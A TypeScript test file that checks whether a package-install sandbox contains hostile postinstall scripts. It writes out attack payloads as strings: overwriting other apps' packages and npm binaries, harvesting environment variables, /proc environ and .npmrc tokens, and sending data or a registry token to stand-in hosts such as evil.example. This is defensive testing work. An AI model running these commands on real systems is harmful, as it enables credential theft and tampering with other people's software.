import { createServer } from "node:http";
import { readdir, readFile } from "node:fs/promises";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { once } from "node:events";
import { DependencyStore } from "../../server/drivers/bundler/dependencies/dependency-store.ts";
import { createTestMirror } from "../support/builds/create-bundler.ts";
import { createCheckout } from "../support/builds/bundle-checkout.ts";
import { installCheckout } from "../support/builds/install-checkout.ts";
import { privateRegistry, REGISTRY_TOKEN } from "../support/builds/private-registry.ts";
import type { PublicHosts } from "../support/builds/public-hosts.ts";
import { type PublishedPackage, startRegistry } from "../support/builds/test-registry.ts";
import type { Attack, AttackEnvironment, AttackResult } from "./attack.ts";

const TOKEN = "token-of-the-registry";
const PUBLISHED = "module.exports = 'as published';";

/** A package whose script runs the file `attack.mjs` of the project, and one that it attacks. */
const PACKAGES: readonly PublishedPackage[] = [
  {
    name: "hostile",
    version: "1.0.0",
    files: { "index.js": "" },
    manifest: { scripts: { postinstall: "test ! -f /build/attack.mjs || node /build/attack.mjs" } },
  },
  { name: "victim", version: "1.0.0", files: { "index.js": PUBLISHED } },
];

/** Changes everything that the script can write to. */
const CHANGE = `import { execSync } from "node:child_process";
  execSync("for f in $(find / -name 'index.js' -path '*victim*' -not -path '/proc/*' 2>/dev/null); do echo hacked >$f; done;" +
    "for d in / /opt /opt/dependencies /opt/node_modules /opt/bundler /opt/bundler/bin /run /usr/bin /opt/node/bin; do echo hacked >$d/npm 2>/dev/null; done; true");`;

/** Writes what the script finds to a file of the project. */
const FIND = `import { execSync } from "node:child_process";
  execSync("(find / \\\\( -name '*.tar' -o -name packages.json -o -name _cacache -o -name '.npmrc' \\\\) -not -path '/proc/*' -not -path '/build/*' -not -path '/scratch/*' 2>/dev/null;" +
    " env; cat /proc/*/environ 2>/dev/null | tr '\\\\0' '\\\\n'; cat ~/.npmrc /root/.npmrc 2>/dev/null) >/build/found.txt; true");`;

/** Tries to send data out: by the mirror, by its proxy, and directly. */
const sendOut = (url: string) => `import { connect } from "node:net";
  import { request } from "node:http";
  const proxied = (method, path) => new Promise((resolve) => {
    const sent = request({ host: "127.0.0.1", port: 3128, agent: false, method, path }, (response) => { response.resume(); resolve(); });
    sent.on("error", resolve).on("connect", (response, socket) => { socket.destroy(); resolve(); });
    sent.end(method === "PUT" ? "data" : undefined);
  });
  const { hostname, port } = new URL("${url}");
  await proxied("GET", "${url}proxied");
  await proxied("CONNECT", hostname + ":" + port);
  await proxied("PUT", "http://packages.invalid/victim");
  await proxied("GET", "http://packages.invalid/stolen-data");
  await proxied("GET", "http://packages.invalid/victim/-/victim-9.9.9.tgz");
  await new Promise((resolve) => connect(Number(port), hostname).on("error", resolve).on("connect", resolve));
  await fetch("${url}fetched").catch(() => undefined);`;

export const INSTALL_ATTACKS: readonly Attack[] = [
  { name: "An install script that changes what other apps install", through: "build", run: changeOthers },
  { name: "An install script that looks for copies, caches and tokens of others", through: "build", run: findOthers },
  { name: "An install script that sends data to other hosts", through: "build", run: reachHosts },
  { name: "An install script that looks for the token of a private registry", through: "build", run: findToken },
  { name: "An .npmrc that sends the token of a private registry to another host", through: "build", run: divertToken },
];

interface InstallEnvironment extends AsyncDisposable {
  requests: readonly string[];
  /** Installs for an app. Returns the attacked module, and what the script wrote. */
  install(organizationId: string, appId: string, attack: string | null): Promise<{ module: string; found: string }>;
}

async function openInstalls({ folder }: AttackEnvironment): Promise<InstallEnvironment> {
  const registry = await startRegistry(PACKAGES);
  const dependencies = new DependencyStore(path.join(folder, "dependencies"));
  const settings = { registry: registry.url, [`//${new URL(registry.url).host}/:_authToken`]: TOKEN };
  const packages = createTestMirror(settings, path.join(folder, "packages"));
  const names = ["hostile", "victim"];
  const wanted = Object.fromEntries(names.map((name) => [name, "1.0.0"]));
  const lock = names.map((name) => [
    `node_modules/${name}`,
    { version: "1.0.0", resolved: `${registry.url}${name}/-/${name}-1.0.0.tgz`, integrity: registry.integrityOf(name) },
  ]);
  const files = {
    "package.json": JSON.stringify({ name: "app", dependencies: wanted }),
    "package-lock.json": JSON.stringify({
      name: "app",
      lockfileVersion: 3,
      packages: { "": { name: "app", dependencies: wanted }, ...Object.fromEntries(lock) },
    }),
  };
  return {
    requests: registry.requests,
    install: async (organizationId, appId, attack) => {
      await using checkout = await createCheckout({ ...files, ...(attack === null ? {} : { "attack.mjs": attack }) });
      await installCheckout(packages, checkout, { dependencies, organizationId, appId });
      await dependencies.close();
      const read = (file: string) => readFile(path.join(checkout.sourceDirectory, file), "utf8").catch(() => "");
      return { module: await read("node_modules/victim/index.js"), found: await read("found.txt") };
    },
    [Symbol.asyncDispose]: () => registry[Symbol.asyncDispose](),
  };
}

async function changeOthers(environment: AttackEnvironment): Promise<AttackResult> {
  await using installs = await openInstalls(environment);
  const own = await installs.install("organization", "attacker", CHANGE);
  const hasChanged = own.module !== PUBLISHED;
  const others = [
    await installs.install("organization", "other-app", null),
    await installs.install("organization", "other-app", null),
    await installs.install("other-organization", "app", null),
  ];
  const isContained = hasChanged && others.every(({ module }) => module === PUBLISHED);
  return { isContained, text: isContained ? "changed its own copy only" : `own: ${hasChanged}, others changed` };
}

async function findOthers(environment: AttackEnvironment): Promise<AttackResult> {
  await using installs = await openInstalls(environment);
  await installs.install("organization", "other-app", null);
  const { found } = await installs.install("organization", "attacker", FIND);
  const archives = found.split("\n").filter((line) => /^\/.*(\.tar|packages\.json|_cacache|\.npmrc)$/.test(line));
  const isContained = found !== "" && archives.length === 0 && !found.includes(TOKEN);
  return { isContained, text: isContained ? "found nothing" : `found ${archives.join(" ").slice(0, 200)}` };
}

async function reachHosts(environment: AttackEnvironment): Promise<AttackResult> {
  let connections = 0;
  const server = createServer((_request, response) => void response.end()).on("connection", () => connections++);
  await once(server.listen(0, "127.0.0.1"), "listening");
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  await using installs = await openInstalls(environment);
  await installs.install("organization", "attacker", sendOut(url));
  server.close();
  server.closeAllConnections();
  const sent = installs.requests.filter((each) => /stolen|9\.9\.9/.test(each));
  const cached = await readdir(path.join(environment.folder, "packages"), { recursive: true });
  const isContained = connections === 0 && sent.length === 0 && cached.length > 0;
  return { isContained, text: `${connections} connections to a host, ${sent.length} other requests to the registry` };
}

/** Looks for the token, asks the mirror for it, and sends what it has to another host. */
const FIND_TOKEN = `import { execSync } from "node:child_process";
  execSync("(env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\\\0' '\\\\n';" +
    " grep -rs ${REGISTRY_TOKEN} /build /scratch /tmp /run /etc /root --exclude=attack.mjs; curl -sx http://127.0.0.1:3128 -H 'x: y' http://packages.invalid/@acme/tool;" +
    " curl -skx http://127.0.0.1:3128 https://evil.example/) >/build/found.txt 2>&1; true");`;

const ACME = { url: "https://npm.acme.example/", scope: "@acme", token: REGISTRY_TOKEN };

async function findToken(environment: AttackEnvironment): Promise<AttackResult> {
  await using hosts = await privateRegistry({ scripts: { postinstall: "node /build/attack.mjs" } });
  const found = await installFrom(hosts, environment, { "attack.mjs": FIND_TOKEN });
  const leaks = found.split("\n").filter((line) => line.includes(REGISTRY_TOKEN) && !line.includes("grep -rs"));
  return judgeToken(hosts, found !== "" && leaks.length === 0);
}

async function divertToken(environment: AttackEnvironment): Promise<AttackResult> {
  await using hosts = await privateRegistry();
  const npmrc =
    "@acme:registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n//npm.acme.example/:_authToken=${NPM_TOKEN}\nregistry=https://evil.example/\n";
  await installFrom(hosts, environment, { ".npmrc": npmrc }).catch(() => "");
  return judgeToken(hosts, true);
}

async function installFrom(
  hosts: PublicHosts,
  { folder }: AttackEnvironment,
  files: Readonly<Record<string, string>>,
): Promise<string> {
  await using registry = await startRegistry(PACKAGES);
  const packages = createTestMirror({ registry: registry.url }, path.join(folder, "packages"), hosts.remote);
  const dependencies = { "@acme/tool": "1.0.0" };
  await using checkout = await createCheckout({
    "package.json": JSON.stringify({ name: "app", homepage: "https://evil.example/", dependencies }),
    ...files,
  });
  await installCheckout(packages, checkout, null, {}, ACME);
  return readFile(path.join(checkout.sourceDirectory, "found.txt"), "utf8").catch(() => "");
}

function judgeToken({ requests }: PublicHosts, isHidden: boolean): AttackResult {
  const sent = requests.filter(({ url, authorization }) => authorization !== undefined && !url.startsWith("npm.acme."));
  const isContained = isHidden && sent.length === 0;
  return { isContained, text: `token ${isHidden ? "not found" : "found"}, sent to ${sent.length} other hosts` };
}
